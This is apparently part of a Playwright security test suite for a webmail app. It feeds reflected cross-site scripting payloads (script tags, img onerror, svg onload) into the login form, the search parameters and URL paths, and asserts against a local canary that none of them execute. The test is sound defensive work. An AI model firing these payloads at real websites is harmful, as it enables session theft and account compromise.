            csp = headers["content-security-policy"]
            assert csp.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'; sandbox"), path
            assert "script-src" not in csp and "unsafe-eval" not in csp
            assert headers["x-content-type-options"] == "nosniff", path

        # The control: the same context, listeners and canary see a script that does run.
        control = LoopbackSite({"/control": (
            f"<!DOCTYPE html><title>control</title><p>control</p><img src=\"{canary.url}/xss-control-load\">"
            f"<script>{script('control', canary.url)}</script>")})
        try:
            page.goto(control.url + "/control")
            assert canary.wait_for("control")
            assert canary.wait_for("control-load") and canary.wait_for("control-img")
            assert page.evaluate("document.title") == "XSS-control"
            assert "error: XSS-control" in watch.console
            assert watch.dialogs == ["alert: XSS-control", "confirm: XSS-control"]
        finally:
            control.close()
    finally:
        server.webmail.remove_view("everything")
        close_context(context)


# -- 3. reflected: what an attacker puts in a link or a form ----------------------------------------------

def test_reflected_payloads_in_urls_search_and_login(browser, server, canary) -> None:
    from playwright.sync_api import expect

    base = server.webmail.url
    start = len(canary.recorded())
    context, page, watch = new_watched_page(browser)
    js = script(500, canary.url)
    try:
        # The login form shows the user name again after a failure.
        page.goto(base + "login")
        page.fill("#username", f'"><script>{js}</script>')
        page.fill("#password", "wrong")
        page.click("form#login button[type=submit]")
        expect(page.locator("#login-error")).to_be_visible(timeout=TIMEOUT)
        expect(page.locator("#username")).to_have_value(f'"><script>{js}</script>')
        assert page.locator("script").count() == 0
        shoot(page, "login")
        log_in(page, base)
        visitor = Visitor(page, base, canary)
        folder = FOLDER_PAYLOADS[0]
        visitor.visit([
            Visit("search?q=" + urllib.parse.quote(f"<script>{js}</script>")),
            Visit("search?q=" + urllib.parse.quote(f'"><img src=x onerror="{js}">') + "&in=body"),
            Visit("search?q=x&in=" + urllib.parse.quote(f'"><svg onload="{js}">')),
            Visit("search?q=x&folder=" + urllib.parse.quote(folder + "-missing", safe=""), 404),
            Visit("mailbox/" + urllib.parse.quote(folder + "-missing", safe=""), 404),
            Visit("view/" + urllib.parse.quote("<img src=x onerror=alert(1)>", safe=""), 404),
            Visit("compose?reply=" + urllib.parse.quote(f"<script>{js}</script>/1", safe=""), 404),
            Visit("message/" + urllib.parse.quote(folder + "-missing", safe="") + "/1", 404),
        ])
        page.goto(base + "mailbox/" + urllib.parse.quote(folder + "-missing", safe=""))
        expect(page.locator("#error")).to_contain_text("There is no folder called")
        page.goto(base + "search?q=" + urllib.parse.quote(f"<script>{js}</script>"))
        # The search box shows the query again, as text (cut to the webmail's 200 characters).
        expect(page.locator("form#search-form input[name=q]")).to_have_value(f"<script>{js}</script>"[:200])
        shoot(page, "search")
        page.wait_for_timeout(500)
        assert visitor.problems == []
        assert watch.script_ran() == [] and watch.page_errors == []
        assert watch.popups(page) == []
        assert canary.recorded()[start:] == []
    finally:
        close_context(context)
